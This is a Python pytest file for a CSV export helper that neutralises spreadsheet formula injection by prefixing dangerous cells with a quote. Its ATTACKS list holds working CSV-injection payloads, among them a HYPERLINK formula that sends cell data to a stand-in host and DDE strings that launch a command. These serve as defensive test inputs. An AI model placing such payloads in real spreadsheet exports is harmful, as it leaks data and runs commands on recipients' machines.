"""Every cell a spreadsheet opens from an export stays text: no formula runs (CSV injection)."""

import csv
import io
from decimal import Decimal

import pytest

from klankbord.lib.cells import cell, csv_writer

ATTACKS = [
    '=HYPERLINK("https://evil.test?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_run_as_a_formula_gets_a_leading_quote(attack: str) -> None:
    assert cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["Bakkerij Alice", "alice@bakkerij.test", "2026-12-06", ""])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert cell(value) == value


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert [cell(-3), cell(2.5), cell(Decimal("-1.25")), cell(0)] == [-3, 2.5, Decimal("-1.25"), 0]
    assert [cell(None), cell(True)] == ["", "true"]


def test_the_writer_neutralises_every_cell_and_quotes_every_field() -> None:
    stream = io.StringIO()
    writer = csv_writer(stream)
    writer.writerow(["name", "count"])
    writer.writerows([ATTACKS[:2], ["Klant;=1+1", -3]])
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows[1] == ["'" + ATTACKS[0], "'" + ATTACKS[1]]
    assert rows[2] == ["Klant;=1+1", "-3"]
    # Quoted, so a spreadsheet that splits on ";" keeps "=1+1" inside the first cell.
    assert stream.getvalue().splitlines()[2] == '"Klant;=1+1","-3"'
